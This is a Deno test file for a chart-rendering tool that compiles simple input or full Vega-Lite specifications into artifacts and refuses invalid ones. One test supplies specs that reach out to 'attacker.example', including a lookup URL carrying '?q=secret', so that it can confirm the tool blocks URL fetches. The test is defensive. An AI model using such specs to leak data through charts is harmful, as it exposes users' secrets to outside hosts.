/**
 * `render_chart` through its definition with the real Vega-Lite compiler:
 * the simple form and full specifications come back as `vega-lite`
 * artifacts, and every kind of invalid chart is refused with what to fix.
 */
import assert from "node:assert/strict";
import { compile } from "vega-lite";
import { renderChart, type VegaLiteArtifact } from "../../src/tools/chart/render_chart.ts";
import { callTool } from "./support.ts";

const sales = [
  { month: "Jan", sales: 10 },
  { month: "Feb", sales: 20 },
  { month: "Mar", sales: 15 },
];

async function render(input: unknown): Promise<{ content: string; artifact: VegaLiteArtifact }> {
  const result = await callTool(renderChart, input);
  assert.equal(typeof result, "object", "render_chart returns content and an artifact");
  return result as { content: string; artifact: VegaLiteArtifact };
}

Deno.test("the simple form becomes a Vega-Lite bar chart artifact", async () => {
  const { content, artifact } = await render({
    data: sales,
    mark: "bar",
    x: "month",
    y: "sales",
    title: "Sales",
  });
  assert.equal(artifact.type, "vega-lite");
  assert.deepEqual(artifact.spec.encoding, {
    x: { field: "month", type: "nominal", sort: null },
    y: { field: "sales", type: "quantitative" },
  });
  assert.deepEqual(artifact.spec.data, { values: sales });
  assert.equal(artifact.spec.$schema, "https://vega.github.io/schema/vega-lite/v6.json");
  assert.equal(content, 'Rendered a bar chart "Sales" of 3 records; the user sees it.');
  // The artifact is what Vega-Lite compiles to a Vega bar chart.
  // deno-lint-ignore no-explicit-any
  const vega = compile(artifact.spec as any).spec;
  assert.equal(vega.marks?.[0]?.type, "rect");
});

Deno.test("the simple form infers temporal axes and draws pies with theta and colour", async () => {
  const line = await render({
    data: [{ day: "2026-01-01", n: 1 }, { day: "2026-01-02", n: 3 }],
    mark: "line",
    x: "day",
    y: "n",
  });
  assert.deepEqual(line.artifact.spec.encoding, {
    x: { field: "day", type: "temporal" },
    y: { field: "n", type: "quantitative" },
  });
  const pie = await render({ data: sales, mark: "arc", x: "month", y: "sales" });
  const encoding = pie.artifact.spec.encoding as Record<string, { field: string }>;
  assert.equal(encoding.theta?.field, "sales");
  assert.equal(encoding.color?.field, "month");
  assert.match(pie.content, /^Rendered a arc chart of 3 records/);
});

Deno.test("a full specification is validated and returned as it is", async () => {
  const spec = {
    data: { values: sales },
    layer: [
      {
        mark: "bar",
        encoding: {
          x: { field: "month", type: "ordinal" },
          y: { field: "sales", type: "quantitative" },
        },
      },
      {
        mark: "rule",
        encoding: { y: { aggregate: "mean", field: "sales", type: "quantitative" } },
      },
    ],
  };
  const { content, artifact } = await render({ spec, title: "With mean" });
  assert.deepEqual(artifact.spec, { ...spec, title: "With mean" });
  assert.match(content, /^Rendered a bar \+ rule chart "With mean" of 3 records/);
});

Deno.test("compiler warnings are passed on to the model", async () => {
  const { content } = await render({
    spec: {
      data: { values: sales },
      mark: "bar",
      encoding: {
        x: { field: "month", type: "nominal" },
        y: { field: "sales", type: "quantitative" },
        shape: { field: "month", type: "nominal" },
      },
    },
  });
  assert.match(content, /Vega-Lite warnings: .*shape/i);
});

async function refused(input: unknown, message: RegExp): Promise<void> {
  await assert.rejects(callTool(renderChart, input), (error: Error) => {
    assert.equal(error.name, "ChartSpecError");
    assert.match(error.message, message);
    return true;
  });
}

Deno.test("an unknown mark is refused with the marks Vega-Lite has", async () => {
  await refused(
    { spec: { data: { values: sales }, mark: "pyramid" } },
    /`mark` is "pyramid"; use one of arc, area, bar, .*boxplot/,
  );
});

Deno.test("an unknown field type is refused with the allowed types", async () => {
  await refused(
    {
      spec: {
        data: { values: sales },
        mark: "bar",
        encoding: { x: { field: "month", type: "category" } },
      },
    },
    /`encoding\.x`\.type is "category"; use one of quantitative, ordinal, temporal, nominal/,
  );
});

Deno.test("a field that is not in the data is refused with the fields it has", async () => {
  await refused(
    {
      spec: {
        data: { values: sales },
        layer: [{ mark: "line", encoding: { y: { field: "revenue", type: "quantitative" } } }],
      },
    },
    /`layer\[0\]\.encoding\.y`\.field "revenue" is not in the data; the records have "month", "sales"/,
  );
});

Deno.test("fields made by transforms are not checked against the data", async () => {
  const { artifact } = await render({
    spec: {
      data: { values: sales },
      transform: [{ calculate: "datum.sales * 2", as: "double" }],
      mark: "point",
      encoding: { y: { field: "double", type: "quantitative" } },
    },
  });
  assert.equal(artifact.type, "vega-lite");
});

Deno.test("data by URL, no data and no mark are refused", async () => {
  await refused(
    { spec: { data: { url: "https://example.com/data.csv" }, mark: "bar" } },
    /loads data from a URL, which is not allowed/,
  );
  await refused({ spec: { mark: "bar" } }, /It has no data: put the records in `data.values`/);
  await refused({ spec: { data: { values: sales } } }, /It has no mark/);
});

Deno.test("nothing in a chart may fetch a URL: lookups, image marks, url and href channels", async () => {
  const lookup = {
    data: { values: sales },
    transform: [{
      lookup: "month",
      from: { data: { url: "https://attacker.example/?q=secret" }, key: "month" },
    }],
    mark: "bar",
    encoding: { x: { field: "month", type: "nominal" } },
  };
  await refused(
    { spec: lookup },
    /`transform\[0\]\.from\.data\.url` loads data from a URL/,
  );
  await refused(
    {
      spec: {
        data: { values: [{ u: "https://attacker.example/p.png" }] },
        mark: "image",
        encoding: { url: { field: "u", type: "nominal" } },
      },
    },
    /`mark` is an image mark.*`encoding\.url` points the chart at a URL/,
  );
  await refused(
    {
      spec: {
        data: { values: sales },
        mark: "bar",
        encoding: {
          x: { field: "month", type: "nominal" },
          href: { value: "https://attacker.example/" },
        },
      },
    },
    /`encoding\.href` points the chart at a URL/,
  );
});

Deno.test("what the compiler itself rejects comes back as a clear error", async () => {
  await refused(
    {
      spec: {
        data: { values: sales },
        mark: "bar",
        params: [{ name: "pick", select: "wrong" }],
        encoding: { x: { field: "month", type: "nominal" } },
      },
    },
    /^Vega-Lite cannot compile the specification: .+/,
  );
});

Deno.test("the simple form needs data, mark, x and y", () => {
  const parsed = renderChart.schema.safeParse({ data: sales, mark: "bar" });
  assert.equal(parsed.success, false);
  assert.match(String(parsed.error), /`x` is missing/);
  assert.equal(
    renderChart.schema.safeParse({ mark: "bar", x: "a", y: "b", data: [] }).success,
    false,
  );
});

Deno.test("offline arguments are labelled numbers from the message", async () => {
  const args = renderChart.offlineArgs!("Chart our sales: Jan 10, Feb 20, Mar 15");
  assert.deepEqual(args, {
    data: [{ label: "Jan", sales: 10 }, { label: "Feb", sales: 20 }, { label: "Mar", sales: 15 }],
    mark: "bar",
    x: "label",
    y: "sales",
    title: "Sales",
  });
  const { artifact } = await render(args);
  assert.equal(artifact.type, "vega-lite");
  assert.equal(renderChart.offlineArgs!("a pie chart please: apples 3, pears 5")?.mark, "arc");
  assert.equal(renderChart.offlineArgs!("Draw me something nice"), undefined);
});
